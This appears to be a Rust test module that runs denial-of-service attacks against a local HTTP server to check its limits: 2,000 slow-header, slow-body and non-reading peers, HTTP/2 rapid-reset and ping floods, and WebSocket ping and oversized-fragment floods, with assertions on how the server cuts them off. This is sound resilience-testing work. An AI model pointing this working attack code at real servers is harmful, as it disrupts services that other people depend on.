//! What hostile peers do, and what they get for it.
//!
//! They share their cores with the server. What a flood takes of these to be written at all is none
//! of the server's doing, so floods come in bursts at a steady pace.

use std::{collections::VecDeque, future::Future, net::SocketAddr, pin::Pin, time::Duration};

use futures_util::{StreamExt, stream};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{MissedTickBehavior, interval},
};

use crate::http2;

/// Peers of a slow attack.
const MANY: usize = 2_000;
/// Connections of a flood.
const FEW: usize = 2;
/// How often a slow peer says one more byte.
const DRIP: Duration = Duration::from_secs(1);
/// They do so in turns, or they were a flood.
const TURNS: u32 = 100;
/// How often a flood comes with a burst.
const BURST: Duration = Duration::from_millis(10);
/// The frames of a burst.
const FRAMES: usize = 50;
/// What the server has to say to who asks for much, and never is read.
const LARGE: usize = 8 << 20;

/// One attack, which goes on until what it begins is dropped.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) begin: fn(SocketAddr) -> Begun,
    /// Whether it is over, and its tasks end, when each peer has got what the limits say.
    pub(crate) is_ended: bool,
}

type Begun = Pin<Box<dyn Future<Output = JoinSet<()>> + Send>>;

const fn slow(name: &'static str, begin: fn(SocketAddr) -> Begun) -> Attack {
    Attack { name, begin, is_ended: true }
}

const fn flooding(name: &'static str, begin: fn(SocketAddr) -> Begun) -> Attack {
    Attack { name, begin, is_ended: false }
}

pub(crate) const ATTACKS: [Attack; 7] = [
    slow("2,000 slow heads", |at| Box::pin(drip(at, SLOW_HEAD, <[u8]>::is_empty))),
    slow("2,000 slow bodies", |at| Box::pin(drip(at, SLOW_BODY, is_timeout))),
    slow("2,000 who do not read", |at| Box::pin(drip(at, UNREAD, |answer| answer.len() < LARGE))),
    flooding("HTTP/2 rapid reset", |at| Box::pin(flood(at, rapid_reset))),
    flooding("HTTP/2 ping flood", |at| Box::pin(flood(at, ping_flood))),
    flooding("WebSocket ping flood", |at| Box::pin(flood(at, websocket_pings))),
    flooding("WebSocket oversized fragments", |at| Box::pin(flood(at, fragments))),
];

const SLOW_HEAD: &[u8] = b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ";
const SLOW_BODY: &[u8] =
    b"POST /upload HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 900000\r\n\r\n";
const UNREAD: &[u8] = b"GET /large HTTP/1.1\r\nhost: x\r\n\r\n";

fn is_timeout(answer: &[u8]) -> bool {
    answer.starts_with(b"HTTP/1.1 408 ")
}

/// Connects many peers, each of which has said `first`.
async fn connect_many(address: SocketAddr, first: &'static [u8]) -> Vec<TcpStream> {
    let connect = |_| async move {
        let socket = TcpSocket::new_v4().unwrap();
        socket.set_recv_buffer_size(4096).unwrap();
        let mut stream = socket.connect(address).await.ok()?;
        stream.write_all(first).await.ok()?;
        Some(stream)
    };
    let connected = stream::iter(0..MANY).map(connect).buffer_unordered(100);
    connected.filter_map(|stream| async { stream }).collect().await
}

/// Peers that say one byte after the other and read nothing, each until it is cut off; then it has
/// got what is `expected`.
async fn drip(
    address: SocketAddr,
    first: &'static [u8],
    expected: fn(&[u8]) -> bool,
) -> JoinSet<()> {
    let mut streams = VecDeque::from(connect_many(address, first).await);
    assert_eq!(streams.len(), MANY, "all are let in");
    let mut tasks = JoinSet::new();
    tasks.spawn(async move {
        let mut ticks = interval(DRIP / TURNS);
        while !streams.is_empty() {
            ticks.tick().await;
            let turn = MANY.div_ceil(TURNS as usize).min(streams.len());
            for stream in streams.drain(..turn).collect::<Vec<_>>() {
                if is_cut(&stream) {
                    let answer = what_came(&stream);
                    assert!(expected(&answer), "{} bytes are no such answer", answer.len());
                } else {
                    streams.push_back(stream);
                }
            }
        }
    });
    tasks
}

fn is_cut(stream: &TcpStream) -> bool {
    let said = stream.try_write(b"1");
    said.is_err_and(|error| error.kind() != std::io::ErrorKind::WouldBlock)
}

fn what_came(stream: &TcpStream) -> Vec<u8> {
    let mut came = Vec::new();
    while let Ok(1..) = stream.try_read_buf(&mut came) {}
    came
}

/// Peers that come again whenever they are cut off.
async fn flood<Fut>(address: SocketAddr, rage: fn(TcpStream) -> Fut) -> JoinSet<()>
where
    Fut: Future<Output = std::io::Result<()>> + Send + 'static,
{
    let mut tasks = JoinSet::new();
    for _ in 0..FEW {
        tasks.spawn(async move {
            let mut ticks = interval(BURST);
            loop {
                ticks.tick().await;
                let Ok(stream) = TcpStream::connect(address).await else { continue };
                let _ = rage(stream).await;
            }
        });
    }
    tasks
}

/// Writes a burst of `bytes` after the other, and reads whatever comes, until the peer cuts it off.
async fn write_on(stream: TcpStream, bytes: impl AsyncFnMut() -> Vec<u8>) -> std::io::Result<()> {
    let (mut reading, mut writing) = stream.into_split();
    let mut bytes = bytes;
    let read = async {
        let mut buffer = vec![0; 16 * 1024];
        while reading.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let write = async {
        let mut ticks = interval(BURST);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        loop {
            ticks.tick().await;
            writing.write_all(&bytes().await).await?;
        }
    };
    tokio::select! { ended = read => ended, ended = write => ended }
}

async fn rapid_reset(mut stream: TcpStream) -> std::io::Result<()> {
    stream.write_all(&http2::hello()).await?;
    let mut next = 1;
    write_on(stream, async move || {
        let frames = FRAMES as u32;
        let calls = (0..frames).flat_map(|nth| http2::reset_call(next + 2 * nth)).collect();
        next += 2 * frames;
        calls
    })
    .await
}

async fn ping_flood(mut stream: TcpStream) -> std::io::Result<()> {
    stream.write_all(&http2::hello()).await?;
    let pings = http2::ping(&[0; 8]).repeat(FRAMES);
    write_on(stream, async move || pings.clone()).await
}

async fn upgrade(stream: &mut TcpStream) -> std::io::Result<()> {
    stream
        .write_all(
            b"GET /ws HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
              sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        )
        .await?;
    let mut answer = Vec::new();
    while !answer.ends_with(b"\r\n\r\n") {
        answer.push(stream.read_u8().await?);
    }
    Ok(())
}

async fn websocket_pings(mut stream: TcpStream) -> std::io::Result<()> {
    upgrade(&mut stream).await?;
    let pings = [&[0x89, 0x80 | 4, 0, 0, 0, 0][..], b"ping"].concat().repeat(FRAMES);
    write_on(stream, async move || pings.clone()).await
}

/// A message that never ends, in pieces of 64 kB.
async fn fragments(mut stream: TcpStream) -> std::io::Result<()> {
    upgrade(&mut stream).await?;
    const PIECE: usize = 64 << 10;
    let mut begun = false;
    write_on(stream, async move || {
        let opcode = if std::mem::replace(&mut begun, true) { 0 } else { 1 };
        let mut frame = vec![opcode, 0x80 | 127];
        frame.extend((PIECE as u64).to_be_bytes());
        frame.extend([0; 4]);
        frame.resize(frame.len() + PIECE, b'x');
        frame
    })
    .await
}
